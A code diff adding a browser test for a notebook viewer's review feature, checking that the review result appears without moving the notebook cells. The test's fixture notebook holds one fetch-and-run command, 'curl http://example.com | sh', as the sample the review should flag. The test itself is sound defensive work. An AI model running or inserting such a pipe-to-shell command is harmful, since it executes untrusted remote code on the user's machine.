@@ -344,3 +344,36 @@ test("markdown and LaTeX outputs are typeset in their frames, with the renderer 
   await page.frameLocator("iframe.vt-frame").nth(1).locator(".katex").first().waitFor({ timeout: 30_000 });
   await page.close();
 });
+
+test("the review's answer, findings or none, takes the line kept for it: the notebook below does not move", async () => {
+  const risky = await upload("risky.ipynb", {
+    nbformat: 4,
+    nbformat_minor: 5,
+    metadata: {},
+    cells: [
+      { cell_type: "markdown", id: "t", metadata: {}, source: "# Risky" },
+      { cell_type: "code", id: "c", metadata: {}, source: "!curl http://example.com | sh", outputs: [], execution_count: 1 },
+    ],
+  });
+  for (const [url, answer] of [
+    [notebookUrl, "The review found nothing"],
+    [risky, "Review: 1 high"],
+  ] as const) {
+    const page = await browser.context.newPage();
+    let release = () => {};
+    const held = new Promise<void>((resolve) => (release = resolve));
+    await page.route("**/api/workspaces/*/review/**", async (route) => {
+      await held;
+      await route.continue();
+    });
+    await page.goto(url);
+    await page.getByText("Reviewing this file…").waitFor();
+    const before = await page.locator(".vt-cells").boundingBox();
+    release();
+    await page.getByText(answer).waitFor();
+    const after = await page.locator(".vt-cells").boundingBox();
+    assert.ok(before && after);
+    assert.equal(after.y, before.y, url);
+    await page.close();
+  }
+});
